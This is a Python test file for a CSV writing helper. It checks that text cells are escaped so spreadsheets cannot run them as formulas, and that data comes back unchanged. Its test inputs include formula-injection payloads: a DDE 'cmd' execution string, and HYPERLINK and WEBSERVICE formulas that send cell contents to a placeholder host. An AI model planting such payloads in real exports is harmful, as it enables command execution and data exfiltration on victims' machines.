"""Does no text become a formula, and does every text come back as it was?"""

import math
import os
import unicodedata

import numpy as np
import pandas as pd
import pytest
import regex
from hypothesis import given
from hypothesis import strategies as st

from analysis.csv_files import guard_text, read_table, restore_text, write_table

# What makes a text a formula, and what stands around it, far more often than by chance.
PIECES = ["=", "+", "-", "@", "＝", "＠", "'", "''", '"', " ", "\t", "\r", "\n", ";", ",", "\ufeff"]
PIECES += ["\u200b", "\u202e", "“", "a", "1", "word", "\u0301"]
TEXTS = st.one_of(st.lists(st.sampled_from(PIECES), max_size=12).map("".join), st.text(max_size=30))

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    '"=1+1',
    "'=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x1b=1+1",
    "＝1+1",
    "－1",
    "﹦1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://canary.invalid/"&A1,"more")',
    '=WEBSERVICE("http://canary.invalid/")',
    "@@A1",
    "“=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_guarded_and_comes_back(text):
    guarded = guard_text(text)
    assert guarded == "'" + text or guarded.startswith(("'", text[0] + "'"))
    assert restore_text(guarded) == text


@pytest.mark.parametrize("place", [";", "\t", "\n", "\r\n", "; ", ";'"])
def test_what_another_separator_would_make_a_cell_of_its_own_is_guarded(place):
    text = f"The vote{place}=1+1;"
    guarded = guard_text(text)
    assert not any(cell.lstrip().startswith("=") for cell in regex.split(r"[;\t\r\n]", guarded))
    assert restore_text(guarded) == text


@pytest.mark.parametrize(
    "text",
    [
        "A plain sentence of 3-4 words, = or not.",
        "'Never,' he said.",
        "“It rose by 5%.”",
        "2026-02-11",
        "2026-02-11T14:20:00-05:00",
        "—No dash of this kind is a minus",
        "Tom's; Ann's",
        "",
        "12.5%",
        "$100",
    ],
)
def test_ordinary_cells_stand_as_they_are(text):
    assert guard_text(text) == text


def test_every_character_that_a_program_could_normalise_to_a_sign_counts_as_one():
    signs = [c for c in map(chr, range(0x110000)) if unicodedata.normalize("NFKC", c)[0] in "=+-@"]
    assert len(signs) > 10
    for sign in signs:
        assert guard_text(sign + "1") == "'" + sign + "1"


@given(TEXTS)
def test_guarding_is_turned_back_exactly(text):
    assert restore_text(guard_text(text)) == text


@given(TEXTS)
def test_no_cell_begins_with_a_sign_whatever_the_separator(text):
    for cell in regex.split(r"[;\t\r\n]", guard_text(text)):
        bare = "".join(c for c in cell if unicodedata.category(c) not in {"Cc", "Cf"})
        assert not unicodedata.normalize("NFKC", bare).lstrip(' "“”`´').startswith(tuple("=+-@"))


@given(st.lists(TEXTS.filter(bool), min_size=1, max_size=6))
def test_texts_come_back_bit_for_bit_from_a_file(tmp_path_factory, texts):
    path = tmp_path_factory.mktemp("csv") / "t.csv"
    write_table(pd.DataFrame({"text": texts, "n": range(len(texts))}), path)
    back = read_table(path, texts=["text"])
    assert back["text"].tolist() == texts
    assert back["n"].tolist() == list(range(len(texts)))
    # Without being told, a column may be read as numbers; its cells as text are still the same.
    assert [str(cell) for cell in read_table(path)["text"]] == texts


@given(st.lists(st.one_of(TEXTS, st.integers().map(str), st.floats().map(str)), min_size=1))
def test_cells_as_text_are_the_same_where_some_are_missing(tmp_path_factory, texts):
    path = tmp_path_factory.mktemp("csv") / "t.csv"
    write_table(pd.DataFrame({"text": texts, "n": 1}), path)
    back = read_table(path)["text"]
    assert [
        "" if pd.isna(cell) and text != "nan" else str(cell)
        for cell, text in zip(back, texts, strict=True)
    ] == texts


@given(
    st.lists(st.tuples(st.integers(-(2**63), 2**63 - 1), st.floats(), st.booleans()), min_size=1)
)
def test_numbers_and_truth_values_come_back_as_such(tmp_path_factory, rows):
    path = tmp_path_factory.mktemp("csv") / "t.csv"
    table = pd.DataFrame(rows, columns=["n", "share", "is_so"])
    write_table(table, path)
    back = read_table(path)
    assert back["n"].tolist() == table["n"].tolist()
    assert back["is_so"].tolist() == table["is_so"].tolist()
    for read, meant in zip(back["share"], table["share"], strict=True):
        assert read == meant or (math.isnan(read) and math.isnan(meant))


def test_empty_and_missing_are_the_same_empty_cell(tmp_path):
    path = write_table(pd.DataFrame({"text": ["", None, np.nan, "NA"], "n": 1}), tmp_path / "t.csv")
    assert path.read_text("utf-8") == "text,n\n,1\n,1\n,1\nNA,1\n"
    assert read_table(path)["text"].isna().tolist() == [True, True, True, False]


def test_what_is_not_text_is_never_touched(tmp_path):
    table = pd.DataFrame(
        {
            "n": [-1, 2],
            "share": [-0.5, math.nan],
            "day": pd.to_datetime(["2026-02-11", "2026-02-12"]),
            "id": ["007", "008"],
        }
    )
    path = write_table(table, tmp_path / "t.csv")
    assert path.read_text("utf-8") == (
        "n,share,day,id\n-1,-0.5,2026-02-11,007\n2,,2026-02-12,008\n"
    )
    back = read_table(path)
    assert back["n"].tolist() == [-1, 2]
    assert back["id"].tolist() == ["007", "008"]


def test_a_carriage_return_ends_no_row(tmp_path):
    path = write_table(pd.DataFrame({"text": ["a\rb", "c"], "n": [1, 2]}), tmp_path / "t.csv")
    assert len(pd.read_csv(path)) == 2
    assert read_table(path)["text"].tolist() == ["a\rb", "c"]


def test_half_a_surrogate_pair_is_written_as_its_number(tmp_path):
    path = write_table(pd.DataFrame({"text": ["a\udc80b"]}), tmp_path / "t.csv")
    assert path.read_text("utf-8") == "text\na\\udc80b\n"


def test_an_empty_table_keeps_its_columns(tmp_path):
    path = write_table(pd.DataFrame({"a": [], "b": []}), tmp_path / "t.csv")
    assert read_table(path).columns.tolist() == ["a", "b"]


def test_a_file_that_cannot_be_written_leaves_the_old_one(tmp_path):
    path = write_table(pd.DataFrame({"text": ["old"]}), tmp_path / "t.csv")
    (tmp_path / f"t.csv.{os.getpid()}.partial").mkdir()
    with pytest.raises(OSError):
        write_table(pd.DataFrame({"text": ["new"]}), path)
    assert read_table(path)["text"].tolist() == ["old"]
